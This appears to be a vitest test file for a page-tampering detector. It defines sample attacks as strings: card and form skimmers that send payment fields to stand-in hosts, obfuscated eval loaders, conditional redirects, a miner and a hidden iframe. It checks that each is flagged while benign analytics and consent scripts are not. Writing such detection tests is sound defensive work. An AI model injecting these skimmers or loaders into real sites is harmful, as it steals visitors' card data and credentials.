import { describe, expect, it } from 'vitest';
import type { Reason } from '../verdict.ts';
import { HISTORY, NEXT, judgeAfter, type CityParts } from '../testing/city-page.ts';

const judge = (change: CityParts) => judgeAfter(HISTORY, { ...NEXT, ...change });
const codes = (reasons: Reason[]) => reasons.map((r) => r.code);
const script = (source: string) => `<script>${source}</script>`;

/** Hand-written attacks, each of one kind the detectors must name by behaviour (no known names in them). */
const SKIMMER =
  `(function(){function grab(){var d={n:document.getElementById('card_number').value,c:document.getElementById('cvv').value,` +
  `e:document.getElementById('expiry_month').value};var i=new Image();i.src='https://img-cdn.example.net/p.gif?d='+btoa(JSON.stringify(d));}` +
  `document.addEventListener('submit',grab,true);})();`;
const FORM_SKIMMER =
  `var snd='';function take(){var f=document.querySelectorAll('input, select');for(var i=0;i<f.length;i++){snd+=f[i].name+'='+f[i].value+'&';}` +
  `var x=new XMLHttpRequest();x.open('POST','//collect.example-stats.org/g.php',true);x.send(snd);}` +
  `document.querySelectorAll('button').forEach(function(b){b.addEventListener('click',take);});`;
const B64_LOADER = `eval(atob('dmFyIHM9ZG9jdW1lbnQuY3JlYXRlRWxlbWVudCgic2NyaXB0Iik7cy5zcmM9Ii8vZXhhbXBsZS5vcmcveC5qcyI7'));`;
const BRACKET_LOADER = `this['ev'+'al'](String['fromCharCode'](97,108,101,114,116,40,49,41));`;
const COMPUTED_LOADER =
  `(function(){if(document.cookie.indexOf('seen=')>-1)return;var h=['cdn','-','lib','.','example','.','org'].join('');` +
  `var s=document.createElement('script');s.src='https:/'+'/'+h+'/l';document.head.appendChild(s);})();`;
const REFERRER_REDIRECT = `if(/google|bing|yahoo/i.test(document.referrer)){window.location.href='https://promo.example.biz/?from='+location.host;}`;
const TIMED_REDIRECT = `if(new Date().getHours()>=22){location.replace('https://night.example.biz/');}`;
const MINER =
  `var w=new Worker(URL.createObjectURL(new Blob([self.code])));w.postMessage({pool:'wss://relay.example.io:443',threads:2,throttle:0.2});` +
  `w.onmessage=function(e){console.log(e.data.hashes+' hashes');};`;
const HIDDEN_FRAME =
  `(function(){var f=document.createElement('iframe');f.src='http://drop.example.ru/in.cgi?3';f.width=1;f.height=1;` +
  `f.style.visibility='hidden';document.body.appendChild(f);})();`;

describe('active content: attacks are judged by what they do', () => {
  it.each([
    ['a card skimmer before </body>', { bodyEnd: script(SKIMMER) }, 'skimmer-payment-fields'],
    ['a form skimmer in the footer', { footer: script(FORM_SKIMMER) }, 'skimmer-form-exfiltration'],
    ['a base64 + eval loader in the head', { headEnd: script(B64_LOADER) }, 'decode-and-run'],
    ['a loader disguised with bracket access and concatenation', { bodyEnd: script(BRACKET_LOADER) }, 'decode-and-run'],
    [
      'a script loader with a computed host that looks at cookies first',
      { bodyEnd: script(COMPUTED_LOADER) },
      'script-loader-computed-address-conditional',
    ],
    ['a referrer-conditional redirect', { headEnd: script(REFERRER_REDIRECT) }, 'conditional-redirect'],
    ['a time-conditional redirect', { headEnd: script(TIMED_REDIRECT) }, 'conditional-redirect'],
    ['an in-page miner', { bodyEnd: script(MINER) }, 'coin-miner'],
    ['a script-written hidden iframe', { main: script(HIDDEN_FRAME) }, 'script-writes-hidden-content'],
  ])('%s is tampered, with a high reason naming the element', (_name, change, code) => {
    const { verdict } = judge(change);
    expect(verdict.kind).toBe('tampered');
    const reason = verdict.reasons.find((r) => r.code === code);
    expect(reason).toMatchObject({ severity: 'high' });
    expect(reason?.evidence?.selector).toMatch(/script/);
    // The inventory records it too, with its place.
    expect(codes(verdict.reasons)).toContain('active-script-inline-added');
  });

  it('names where the skimmer sends the card data', () => {
    const reason = judge({ bodyEnd: script(SKIMMER) }).verdict.reasons.find((r) => r.code === 'skimmer-payment-fields');
    expect(reason?.message).toContain('img-cdn.example.net');
    expect(reason?.evidence?.url).toContain('img-cdn.example.net');
  });

  it('reports a new external script from a never-used domain placed last in the body, loaded synchronously', () => {
    const { verdict } = judge({
      bodyEnd: '<script type="text/javascript" src="https://static.example-cdn.top/j.js"></script>',
    });
    expect(codes(verdict.reasons)).toEqual(
      expect.arrayContaining(['script-new-domain-loader-slot', 'active-script-src-added']),
    );
    expect(verdict.kind).not.toBe('unchanged');
  });

  it('reports a new event handler that decodes and runs code', () => {
    const { verdict } = judge({ main: `<img src="/img/x.png" alt="" onerror="eval(atob('YWxlcnQoMSk='))">` });
    expect(verdict.kind).toBe('tampered');
    const reason = verdict.reasons.find((r) => r.code === 'decode-and-run');
    expect(reason?.severity).toBe('high');
    expect(reason?.evidence?.selector).toContain('img');
  });
});

describe('active content: churn and ordinary additions are seen but not alarming', () => {
  it('a renamed bundle, a new nonce and new inline configuration tokens give no active-content reason', () => {
    const { verdict } = judge({});
    expect(verdict.kind).toBe('unchanged');
    expect(verdict.reasons.filter((r) => r.code.startsWith('active-'))).toEqual([]);
  });

  it('an analytics snippet that only loads a script from its usual, visible host is recorded as info', () => {
    const snippet =
      `(function(w,d,s){var f=d.getElementsByTagName(s)[0],j=d.createElement(s);j.async=true;` +
      `j.src='https://www.googletagmanager.com/gtm.js?id=GTM-CITY';f.parentNode.insertBefore(j,f);})(window,document,'script');`;
    const { verdict } = judge({ headEnd: script(snippet) });
    expect(verdict.kind).toBe('unchanged');
    const added = verdict.reasons.find((r) => r.code === 'active-script-inline-added');
    expect(added).toMatchObject({ severity: 'info' });
    expect(added?.message).toContain('creates script elements');
  });

  it('a consent manager (a blank hidden locator frame, a banner script) raises nothing high', () => {
    const stub =
      `(function(){function r(){if(!window.frames['__cmpLocator']){if(document.body){var f=document.createElement('iframe');` +
      `f.style.cssText='display:none';f.name='__cmpLocator';document.body.appendChild(f);}else{setTimeout(r,5);}}}r();` +
      `window.__cmp=function(){(window.__cmp.a=window.__cmp.a||[]).push(arguments);};})();`;
    const banner = `document.addEventListener('DOMContentLoaded',function(){var b=document.getElementById('cookie-ok');if(b){b.onclick=function(){document.cookie='consent=1;path=/';};}});`;
    const { verdict } = judge({ head: script(stub), bodyEnd: script(banner) });
    expect(verdict.kind).not.toBe('tampered');
    expect(verdict.reasons.filter((r) => r.severity === 'high')).toEqual([]);
    expect(codes(verdict.reasons)).toEqual(
      expect.arrayContaining(['script-writes-blank-hidden-frame', 'active-script-inline-added']),
    );
    const bannerReason = verdict.reasons.find(
      (r) => r.code === 'active-script-inline-added' && r.evidence?.snippet?.includes('cookie-ok'),
    );
    expect(bannerReason?.message).toContain('no form reading, no network sink');
  });

  it('a newsletter form that posts its e-mail field to the site itself is low at most', () => {
    const signup =
      `document.getElementById('news').addEventListener('submit',function(e){e.preventDefault();` +
      `fetch('/api/newsletter',{method:'POST',body:new FormData(e.target)});});`;
    const { verdict } = judge({ main: `<form id="news"><input name="email"></form>${script(signup)}` });
    expect(verdict.kind).not.toBe('tampered');
    expect(verdict.reasons.filter((r) => r.severity === 'high' || r.severity === 'medium')).toEqual([]);
    expect(codes(verdict.reasons)).toContain('form-fields-sent');
  });
});
